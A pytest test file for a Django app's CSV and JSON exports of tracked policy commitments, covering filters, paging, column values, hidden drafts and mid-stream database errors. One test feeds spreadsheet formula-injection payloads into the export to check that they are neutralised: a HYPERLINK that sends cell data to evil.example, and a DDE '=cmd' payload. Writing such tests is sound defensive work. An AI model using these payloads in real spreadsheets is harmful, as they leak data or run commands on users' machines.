"""CSV and JSON exports: the list's rows, same filters, all pages, safe in a spreadsheet."""

from __future__ import annotations

import csv
import io
import json
from datetime import date

import pytest

from commitments.exports import COLUMNS

from . import factories

pytestmark = pytest.mark.django_db


def list_slugs(client, query: str) -> list[str]:
    """Slugs the list shows for ``query``, page by page as a reader pages through it."""
    slugs, page = [], 1
    while True:
        response = client.get(f"/commitments/?{query}&page={page}")
        assert response.status_code == 200
        slugs += [c.slug for c in response.context["page"].object_list]
        if not response.context["page"].has_next():
            return slugs
        page += 1


def read_csv(client, query: str = "") -> list[dict]:
    response = client.get(f"/commitments/export.csv?{query}")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert 'attachment; filename="commitments.csv"' in response["Content-Disposition"]
    content = b"".join(response.streaming_content).decode("utf-8")
    assert content.startswith("\ufeff")
    reader = csv.DictReader(io.StringIO(content.lstrip("\ufeff")))
    # ``COLUMNS``, then the status in each public country (by slug; see test_country_exports.py).
    assert reader.fieldnames[:len(COLUMNS)] == COLUMNS
    assert all(name.startswith("status_") for name in reader.fieldnames[len(COLUMNS):])
    return list(reader)


def read_json(client, query: str = "") -> list[dict]:
    response = client.get(f"/commitments/export.json?{query}")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/json"
    return json.loads(b"".join(response.streaming_content))["commitments"]


@pytest.fixture
def many(catalogue):
    """The catalogue plus 30 more commitments, so the list runs to two pages and more."""
    ns = catalogue
    for i in range(30):
        c = factories.commitment(slug=f"extra-{i:02d}", title=f"Extra commitment {i:02d}", source=ns.statement,
                                 date_made=date(2020, 1, 1), due_date=date(2021 + i % 5, 1, 1))
        c.themes.set([ns.pcve] if i % 2 else [ns.borders])
        c.countries.set([ns.kz, ns.uz] if i % 3 else [ns.tj])
        if i % 4 == 0:
            factories.update(c, status="achieved" if i % 8 == 0 else "in_progress", as_of=date(2022, 1, 1 + i % 28),
                             published=True)
        if i % 5 == 0:
            factories.update(c, status="abandoned", as_of=date(2023, 1, 1), summary="SECRETDRAFTSUMMARY extra")
    return ns


QUERIES = [
    "",
    "sort=-due",
    "sort=updated",
    "theme=pcve",
    "theme=pcve&theme=border-management&country=kz&sort=due",
    "status=in_progress&status=not_assessed",
    "overdue=1",
    "stale=1&sort=-updated",
    "as_of=2021-06-01",
    "as_of=2022-01-10&status=in_progress",
    "q=extra+commitment&due_before=2023-01-01",
    "source=joint-statement-2021&page=2",
]


@pytest.mark.parametrize("query", QUERIES)
def test_exports_give_exactly_the_rows_of_the_list_over_all_pages(client, many, query):
    expected = list_slugs(client, query.replace("&page=2", ""))
    assert len(expected) == len(set(expected))
    assert [row["slug"] for row in read_csv(client, query)] == expected
    assert [row["slug"] for row in read_json(client, query)] == expected


def test_the_unfiltered_export_runs_past_the_first_page(client, many):
    assert len(list_slugs(client, "")) == 35
    assert client.get("/commitments/").context["page"].paginator.num_pages == 2
    assert len(read_csv(client)) == 35 and len(read_json(client)) == 35


def test_csv_columns_and_values(client, catalogue):
    rows = {row["slug"]: row for row in read_csv(client)}
    expert = rows["deploy-ct-expert"]
    assert expert == {
        "slug": "deploy-ct-expert",
        "title": "Deploy a dedicated CT expert",
        "status": "achieved",
        "status_label": "Achieved",
        "status_as_of": "2022-03-01",
        "due_date": "2020-12-31",
        "overdue": "no",
        "date_made": "2019-05-15",
        "statement_type": "pledge",
        "themes": "pcve",
        "countries": "kg; kz",  # slugs in alphabetical order
        "actors": "EEAS",
        "source": "eu-strategy-2019",
        "source_url": "https://example.org/strategy-2019",
        "url": "http://testserver/commitments/deploy-ct-expert/",
        "due_precision": "day",
        "date_made_precision": "day",
        "expected_end": "",
        "expected_end_precision": "",
        "status_as_of_precision": "day",
        # Added in format version 2, after the columns above: the quote, the source, names beside slugs, the
        # assessment the status comes from, the stale flag.
        "quote": "The EU will deploy a dedicated security and CT expert to the region.",
        "location": "Section 2.1, paragraph 4",
        "source_title": "The EU and Central Asia: New Opportunities for a Stronger Partnership",
        "source_issuer": "European Commission",
        "source_date": "2019-05-15",
        "source_date_precision": "day",
        "theme_names": "P/CVE",
        "country_names": "Kyrgyzstan; Kazakhstan",  # in the order of the slugs
        "actor_slugs": "eeas",
        "assessment_scope": "regional",
        "status_confidence": "medium",
        "status_summary": "Expert in post in Bishkek since March.",
        "status_update_url": f"http://testserver/commitments/deploy-ct-expert/#update-{catalogue.expert_u2.pk}",
        "stale": "no",
        "due_text": "by the stated date",
        # A regional commitment: its overall status in each of its countries; empty where not filed.
        "status_kg": "achieved",
        "status_kz": "achieved",
        "status_tj": "",
        "status_uz": "",
    }
    assert list(expert)[:15] == COLUMNS[:15]  # the columns added for precision come after the earlier ones
    assert rows["border-management-programme"]["overdue"] == "yes"
    assert rows["cut-terrorism-financing"]["status"] == "not_assessed"
    assert rows["cut-terrorism-financing"]["status_as_of"] == ""
    assert rows["cut-terrorism-financing"]["status_as_of_precision"] == ""
    assert rows["cut-terrorism-financing"]["actors"] == "European Commission; OSCE"


def test_json_columns_and_values(client, catalogue):
    rows = {row["slug"]: row for row in read_json(client)}
    assert set(rows["deploy-ct-expert"]) == {*COLUMNS, "country_status"}
    assert rows["deploy-ct-expert"]["countries"] == ["kg", "kz"]
    assert rows["deploy-ct-expert"]["overdue"] is False
    assert rows["border-management-programme"]["overdue"] is True
    assert rows["cut-terrorism-financing"]["status_as_of"] is None
    assert rows["reintegrate-returning-families"]["status_label"] == "Partially achieved"


def test_as_of_is_applied_to_the_exported_status_and_overdue_flag(client, catalogue):
    for rows in (read_csv(client, "as_of=2021-01-15"), read_json(client, "as_of=2021-01-15")):
        by_slug = {row["slug"]: row for row in rows}
        assert list(by_slug) == ["deploy-ct-expert", "exchange-pcve-practice", "reintegrate-returning-families"]
        expert = by_slug["deploy-ct-expert"]
        assert (expert["status"], expert["status_label"], expert["status_as_of"]) == (
            "in_progress", "In progress", "2020-06-01")
        assert expert["overdue"] in ("yes", True)
        assert by_slug["exchange-pcve-practice"]["status"] == "not_assessed"


@pytest.mark.parametrize(
    ("title", "expected"),
    [
        ('=HYPERLINK("http://evil.example/?x="&A1,"click")', '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("Plain = title", "Plain = title"),
    ],
)
def test_csv_neutralises_formula_cells(client, db, title, expected):
    src = factories.source(slug="src", title="=cmd|' /C calc'!A0", url="https://example.org/x")
    c = factories.commitment(slug="formula", title=title, source=src)
    c.actors.set([factories.actor(slug="a", name="-Minus actor")])
    (row,) = read_csv(client)
    assert row["title"] == expected
    assert row["actors"] == "'-Minus actor"
    # JSON is data, not a spreadsheet: the title comes out as typed.
    assert read_json(client)[0]["title"] == title


@pytest.mark.parametrize(
    ("query", "message"),
    [
        # The FilterSet's messages (issue 15: a date's with its format, the status's with its choices, a slug's).
        ("due_after=2020-13-01", "due_after: Enter a date as YYYY-MM-DD (e.g. 2026-07-01)."),
        ("status=bogus", "status: “bogus” is not a status. Choose one of: not_assessed (Not yet assessed);"),
        ("theme=nope", "theme: No public theme has the slug “nope”."),
        ("theme=returnees", "theme: No public theme has the slug “returnees”."),
        ("as_of=2999-01-01", "as_of: The as-of date cannot be in the future."),
        ("due_after=2023-01-01&due_before=2022-01-01", "due_before: “Due on or before” must not be earlier"),
        ("q=" + "x" * 10_000, "q: Ensure this value has at most 200 characters"),
    ],
)
@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_invalid_filters_give_400_text(client, catalogue, query, message, fmt):
    response = client.get(f"/commitments/export.{fmt}?{query}")
    assert response.status_code == 400
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    body = response.content.decode()
    assert body.startswith("Bad request:")
    assert message in body


def test_drafts_archived_and_draft_updates_are_absent(client, many):
    for content in (
        b"".join(client.get("/commitments/export.csv").streaming_content).decode(),
        b"".join(client.get("/commitments/export.json").streaming_content).decode(),
        b"".join(client.get("/commitments/export.json?theme=pcve&country=kz").streaming_content).decode(),
    ):
        for secret in many.hidden_text:
            assert secret not in content
        assert "draft-commitment" not in content and "archived-commitment" not in content
    # The draft "abandoned" updates of the extras change nothing.
    assert all(row["status"] != "abandoned" for row in read_json(client))


def test_csv_cells_with_commas_quotes_and_line_breaks_are_written_as_csv_writer_writes_them(client, db):
    src = factories.source(slug="src", url="https://example.org/a")
    titles = ["Plain title", "Borders, customs", 'The "Dushanbe" process', "Two\nlines", "Carriage\rreturn"]
    for i, title in enumerate(titles):
        factories.commitment(slug=f"c-{i}", title=title, source=src)
    content = b"".join(client.get("/commitments/export.csv").streaming_content).decode("utf-8")
    rows = list(csv.reader(io.StringIO(content.lstrip("\ufeff"), newline="")))
    assert sorted(row[1] for row in rows[1:]) == sorted(titles)
    expected = io.StringIO()
    csv.writer(expected).writerows(rows)
    assert content == "\ufeff" + expected.getvalue()


def test_filtered_rows_carry_the_same_taxonomies_as_unfiltered_ones(client, many):
    """Unfiltered, each link table is aggregated whole; filtered, only the matching rows' (PostgreSQL)."""
    bare = factories.commitment(slug="bare", title="Bare commitment", source=many.statement)  # no taxonomy at all
    everything = {row["slug"]: row for row in read_json(client)}
    assert everything[bare.slug]["themes"] == everything[bare.slug]["actors"] == []
    taxonomies = ("themes", "countries", "actors", "source")
    for query in ("country=kz", "theme=pcve&sort=-due", "as_of=2022-01-10", "q=bare"):
        rows = read_json(client, query)
        assert rows
        for row in rows:
            assert {k: row[k] for k in taxonomies} == {k: everything[row["slug"]][k] for k in taxonomies}


# --- a database error is never read as an empty or complete export ------------------------------


def fail_after(monkeypatch, n: int) -> None:
    """The export's rows raise OperationalError when the row after the ``n``th is fetched."""
    from django.db import OperationalError

    from commitments import exports

    real = exports._records

    def records(**kwargs):
        for i, record in enumerate(real(**kwargs)):
            if i == n:
                raise OperationalError("server closed the connection unexpectedly")
            yield record

    monkeypatch.setattr(exports, "_records", records)


@pytest.fixture
def rows_150(db):
    """150 public commitments: more than one write of the stream (ROWS_PER_WRITE rows each)."""
    from commitments.models import Commitment

    src = factories.source(slug="src", url="https://example.org/a")
    Commitment.objects.bulk_create(
        Commitment(slug=f"c-{i:03d}", title=f"Commitment {i:03d}", quote="Words.", source=src,
                   date_made=date(2020, 1, 1), state=Commitment.State.PUBLISHED)
        for i in range(150)
    )


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_a_database_error_before_the_first_row_is_a_500_page_not_an_empty_export(rows_150, monkeypatch, fmt):
    from django.test import Client

    fail_after(monkeypatch, 0)
    response = Client(raise_request_exception=False).get(f"/commitments/export.{fmt}")
    assert response.status_code == 500
    assert not response.streaming
    assert response["Content-Type"].startswith("text/html")
    assert response["X-Request-ID"] in response.content.decode()  # the page gives the reference that was logged


def consume(response) -> tuple[bytes, Exception | None]:
    """What a client receives before the stream stops, and the error that stopped it (None: a clean end)."""
    chunks = []
    try:
        for chunk in response.streaming_content:
            chunks.append(chunk)
    except Exception as exc:  # noqa: BLE001 - the point is to see what stops the stream
        return b"".join(chunks), exc
    return b"".join(chunks), None


def test_a_database_error_mid_stream_aborts_the_csv_and_leaves_it_unreadable(client, rows_150, monkeypatch):
    from django.db import OperationalError

    fail_after(monkeypatch, 120)
    response = client.get("/commitments/export.csv")
    assert response.status_code == 200  # already sent when the error comes
    body, error = consume(response)
    # The response is aborted: the server drops the connection without ending the chunked body.
    assert isinstance(error, OperationalError)
    text = body.decode("utf-8").lstrip("\ufeff")
    assert text.startswith(",".join(COLUMNS)) and "c-099" in text  # rows before the error went out
    # A client that reads whatever arrived still cannot take it for a complete CSV: the last line opens a
    # quoted field that never closes, which a strict reader refuses; a person reading it sees why.
    with pytest.raises(csv.Error, match="unexpected end of data"):
        list(csv.reader(io.StringIO(text, newline=""), strict=True))
    last = text.rsplit("\r\n", 1)[1]
    assert last.startswith('"ERROR: export incomplete') and response["X-Request-ID"] in last


def test_a_database_error_mid_stream_aborts_the_json_and_leaves_it_invalid(client, rows_150, monkeypatch):
    from django.db import OperationalError

    fail_after(monkeypatch, 120)
    response = client.get("/commitments/export.json")
    assert response.status_code == 200
    body, error = consume(response)
    assert isinstance(error, OperationalError)
    text = body.decode("utf-8")
    assert text.startswith('{"commitments": [{') and "c-099" in text
    with pytest.raises(json.JSONDecodeError):
        json.loads(text)
    assert "]}" not in text  # the array and the object are never closed
    assert "ERROR: export incomplete" in text and response["X-Request-ID"] in text


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_an_export_that_ends_cleanly_is_complete(client, rows_150, fmt):
    body, error = consume(client.get(f"/commitments/export.{fmt}"))
    assert error is None
    text = body.decode("utf-8")
    if fmt == "json":
        assert len(json.loads(text)["commitments"]) == 150
    else:
        assert len(list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline=""), strict=True))) == 151
    assert "ERROR" not in text


def test_an_export_closed_unread_closes_its_database_cursor(client, catalogue, monkeypatch):
    """The query runs before the response starts; a response closed without being read (a reader who
    went away: the server still closes it) closes its cursor there and then. (An unread response that
    nobody closes keeps its cursor until the garbage collector finds it, at any moment: with the
    connection busy then, psycopg waited on its own lock for ever. Tests close theirs: conftest.py.)"""
    from django.db import connection

    from .conftest import close_as_the_test_client_does

    if connection.vendor != "postgresql":
        pytest.skip("SQLite reads in chunks without a server-side cursor")

    def open_cursors() -> int:
        with connection.cursor() as cursor:
            cursor.execute("SELECT count(*) FROM pg_cursors")
            return cursor.fetchone()[0]

    from commitments import exports

    # The first chunk of rows (and their cells) is read before the response starts: fewer rows a chunk than the
    # five public ones, so that the query is still running (a chunk that reads every row closes its cursor).
    monkeypatch.setattr(exports, "CHUNK", 2)
    opened = [client.get(f"/commitments/export.{fmt}") for fmt in ("csv", "json")]
    assert [r.status_code for r in opened] == [200, 200]
    assert open_cursors() == 2  # both queries are running, their first rows fetched
    for response in opened:
        close_as_the_test_client_does(response)
    assert open_cursors() == 0


def test_exports_carry_each_dates_precision_and_the_inferred_end(client, catalogue):
    """A date known to the month or year says so: its precision beside it, the day stored per ``dates``."""
    from commitments.models import Commitment

    Commitment.objects.filter(pk=catalogue.financing.pk).update(
        due_date=date(2030, 12, 31), due_precision="year", date_made=date(2021, 6, 1), date_made_precision="month",
        expected_end=date(2031, 6, 30), expected_end_precision="month", expected_end_note="Programme end")
    by_csv = {row["slug"]: row for row in read_csv(client)}["cut-terrorism-financing"]
    by_json = {row["slug"]: row for row in read_json(client)}["cut-terrorism-financing"]
    for row in (by_csv, by_json):
        assert (row["due_date"], row["due_precision"]) == ("2030-12-31", "year")
        assert (row["date_made"], row["date_made_precision"]) == ("2021-06-01", "month")
        assert (row["expected_end"], row["expected_end_precision"]) == ("2031-06-30", "month")
    not_due = {row["slug"]: row for row in read_json(client)}["exchange-pcve-practice"]
    assert not_due["due_date"] is None and not_due["due_precision"] is None  # no date: no precision
